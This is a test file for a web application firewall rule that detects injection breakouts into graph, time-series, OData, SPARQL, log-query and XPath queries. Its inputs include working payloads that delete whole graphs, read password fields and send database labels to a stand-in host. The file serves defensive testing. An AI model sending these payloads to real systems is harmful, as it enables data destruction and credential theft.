/**
 * Breakouts into the query languages of graph and time-series stores and OData (942298: Cypher, Flux, OData), in
 * parameters, paths, GraphQL arguments and JSON; an XPath breakout in a SOAP call's element; and
 * whole queries and prose that look like them.
 */
import { describe, expect, it } from "vitest";
import { queryLanguageBreakout } from "../../../core/signatures/query-language-breakout.ts";
import { BACKENDS, matchesAt, rulesOf } from "./support.ts";

const enc = new TextEncoder();
const post = (contentType: string, text: string) =>
  matchesAt({ method: "POST", body: { bytes: enc.encode(text), contentType, truncated: false } });

describe("Cypher and Flux breakouts", () => {
  it("takes a closed literal that goes on in Cypher, in both engines", () => {
    for (const { name, make } of BACKENDS) {
      const q = (v: string) =>
        rulesOf({ method: "GET", path: "/a", rawPath: "/a", query: [["q", v]], headers: [["host", "x"]] }, make());
      expect(q("scifi'}) MATCH (n) DETACH DELETE n //"), name).toContain("942298");
      expect(
        q("x' RETURN 1 AS r UNION CALL db.labels() YIELD label LOAD CSV FROM 'http://x.example/'+label AS b RETURN 1"),
        name,
      ).toContain("942298");
      expect(q('d1") |> yield(name: "a")'), name).toContain("942298");
      expect(q("acme' or CustomerId gt 0 or Name eq 'x"), name).toContain("942298");
    }
  });

  it("reads paths, GraphQL arguments and JSON fields", () => {
    const p =
      "/api/people/%27%7D%29%20RETURN%200%20AS%20x%20UNION%20MATCH%20%28u%3AUser%29%20RETURN%20u.password%20AS%20x%20%2F%2F";
    expect(matchesAt({ path: p, rawPath: p })).toContain("942298@path");
    const gql = JSON.stringify({
      query: '{ movies(where: {title: "x\' }) MATCH (u:User) RETURN u.passwordHash AS title //"}) { title } }',
    });
    expect(post("application/json", gql)).toContain("942298@body:json.query.arg");
    expect(
      post("application/json", JSON.stringify({ filter: { genre: "scifi'}) MATCH (n) DETACH DELETE n //" } })),
    ).toContain("942298@body:json.filter.genre");
  });

  it("leaves whole queries and prose alone", () => {
    expect(queryLanguageBreakout("MATCH (m:Movie {title: 'Heat'}) RETURN m")).toBe(false);
    expect(queryLanguageBreakout('from(bucket: "telemetry") |> range(start: -1h)')).toBe(false);
    expect(queryLanguageBreakout("Customers' return (reason: damaged) was logged")).toBe(false);
    expect(queryLanguageBreakout("Customers' return http://example.com/returns")).toBe(false);
    expect(queryLanguageBreakout("I'd match (with care) what they return")).toBe(false);
    expect(queryLanguageBreakout("Name eq 'Smith' and Age gt 30")).toBe(false);
    expect(queryLanguageBreakout("O'Brien and Sons eq partners")).toBe(false);
    expect(queryLanguageBreakout('"Return to Sender" (the song) //')).toBe(false);
  });
});

describe("Gremlin, SPARQL, KQL and SPL breakouts, and Cypher's backtick", () => {
  it("takes a closed literal that goes on in the query's language", () => {
    expect(queryLanguageBreakout("Person`) MATCH (n) DETACH DELETE n //")).toBe(true);
    expect(queryLanguageBreakout("acme'})-[r]-() DELETE r //")).toBe(true);
    expect(queryLanguageBreakout("marko').union(__.V().values('password')).fold().next()//")).toBe(true);
    expect(queryLanguageBreakout("x').sideEffect{Thread.sleep(8000)}.has('id','x")).toBe(true);
    expect(queryLanguageBreakout('x") } UNION { ?s ?p ?o } #')).toBe(true);
    expect(queryLanguageBreakout('nice" } ; DROP ALL ; INSERT DATA { <urn:x> <urn:y> "pwned')).toBe(true);
    expect(queryLanguageBreakout('alice" | union * | take 1000 //')).toBe(true);
    expect(queryLanguageBreakout('host=web01" | rest /servicesNS/-/-/storage/passwords | table title')).toBe(true);
    expect(queryLanguageBreakout("x' or 1 eq 1 or Name eq '")).toBe(true);
    expect(queryLanguageBreakout('x" || true RETURN DOCUMENT("_users", "root") //')).toBe(true);
  });

  it("leaves quotes, pipes and backticks in prose alone", () => {
    expect(queryLanguageBreakout('She said "ok" | union of two')).toBe(false);
    expect(queryLanguageBreakout('a 12" | rest of the pipe')).toBe(false);
    expect(queryLanguageBreakout("Use `npm test`) then return to the page")).toBe(false);
    expect(queryLanguageBreakout("O'Reilly').values are great")).toBe(false);
    expect(queryLanguageBreakout("Rock 'n' roll || truly great")).toBe(false);
    expect(queryLanguageBreakout("It's 1 eq 1 in OData or so")).toBe(false);
    expect(queryLanguageBreakout("g.V().has('name','marko').out('knows').values('name')")).toBe(false);
  });
});

describe("PostgREST's own logic parameters and SQL in a dictionary key", () => {
  it("leaves an or-list the API is sent whole, and reads a bracketed key as a value", () => {
    expect(matchesAt({ query: [["or", "(done.eq.true,title.ilike.*milk*)"]] })).toEqual([]);
    expect(matchesAt({ query: [["filters[Name' OR 1=1--]", "x"]] })).toEqual(
      expect.arrayContaining([expect.stringMatching(/^942\d+@query-name$/)]),
    );
    expect(
      matchesAt({
        query: [
          ["filters[Name]", "x"],
          ["sort[created_at]", "desc"],
        ],
      }),
    ).toEqual([]);
  });
});

describe("an XPath breakout in a SOAP call", () => {
  it("judges an element's text as a parameter", () => {
    const soap =
      '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>' +
      "<acc:getAccount xmlns:acc=\"urn:a\"><acc:login>']|//user/password|a['</acc:login></acc:getAccount></soapenv:Body></soapenv:Envelope>";
    expect(post("text/xml", soap)).toEqual(expect.arrayContaining([expect.stringMatching(/^920265@body:xml\./)]));
    const plain =
      '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>' +
      '<acc:getAccount xmlns:acc="urn:a"><acc:login>o\'brien</acc:login></acc:getAccount></soapenv:Body></soapenv:Envelope>';
    expect(post("text/xml", plain)).toEqual([]);
  });
});
